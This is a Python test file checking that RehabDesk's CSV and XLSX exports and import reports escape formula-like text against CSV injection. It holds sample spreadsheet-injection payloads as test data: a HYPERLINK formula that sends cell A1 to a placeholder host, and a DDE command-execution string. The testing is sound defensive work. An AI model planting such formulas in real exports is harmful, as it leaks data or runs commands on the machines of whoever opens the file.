"""Every CSV and XLSX file RehabDesk writes shows formula-like text as text (issue #23,
item 6, OWASP's CSV-injection rule)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import openpyxl
import pytest

from rehabdesk.domain.spreadsheet_cells import safe_cell
from rehabdesk.domain.transfer import CANONICAL_KEYS
from rehabdesk.services.intake.transfer_import import (
    ImportReport,
    read_transfer_list,
    write_template,
)
from rehabdesk.services.platform import audit
from rehabdesk.services.platform.database import Database
from tests.conftest import TODAY

NASTY = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0",
         "+1+1", "-2+3", "\tTAB=1", "\rCR=1"]


@pytest.mark.parametrize("text", NASTY)
def test_the_rule(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert safe_cell("Sok Dara") == "Sok Dara" and safe_cell(-2) == -2


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_the_audit_export_escapes_typed_user_names_and_full_names() -> None:
    lines = [audit.AuditLine(i, dt.datetime(2026, 11, 25, 8, 0), name, "sign_in_failed",
                             "user", audit.summary_of(f"{name} could not sign in"), "{}")
             for i, name in enumerate(NASTY, start=1)]
    cells = _cells(audit.entries_csv(lines))
    for name in NASTY:
        assert "'" + name in cells
        assert name not in cells


def test_the_import_report_escapes_its_reasons() -> None:
    report = ImportReport(((2, "KPC-2026-000001"),),
                          tuple((n, text) for n, text in enumerate(NASTY, start=3)))
    cells = _cells(report.to_csv())
    for text in NASTY:
        assert "'" + text in cells and text not in cells


def test_the_template_holds_no_formula(tmp_path: Path) -> None:
    write_template(tmp_path / "template.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "template.xlsx").active
    assert sheet is not None
    assert [c.value for c in sheet[1]] == list(CANONICAL_KEYS)
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_formula_like_names_in_a_transfer_list_are_a_warning(database: Database,
                                                             tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text("latin_name,sex,birth_date,arrival_date\n"
                    "Sok Dara,M,1990,20/11/2026\n"
                    "\"=HYPERLINK(\"\"http://x.example\"\",\"\"Sok\"\")\",M,1991,20/11/2026\n",
                    encoding="utf-8")
    with database.unit_of_work() as uow:
        preview = read_transfer_list(uow, path, today=TODAY)
    assert any(str(w).startswith("A name in row 3 begins with =, +, -, @")
               for w in preview.warnings)
